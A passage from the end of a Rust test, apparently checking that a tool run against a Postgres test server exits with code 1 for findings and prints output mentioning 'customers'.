    assert_eq!(out.status.code(), Some(1), "findings expected: {}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("customers"), "{}", String::from_utf8_lossy(&out.stdout));
    drop(pg.server);
}
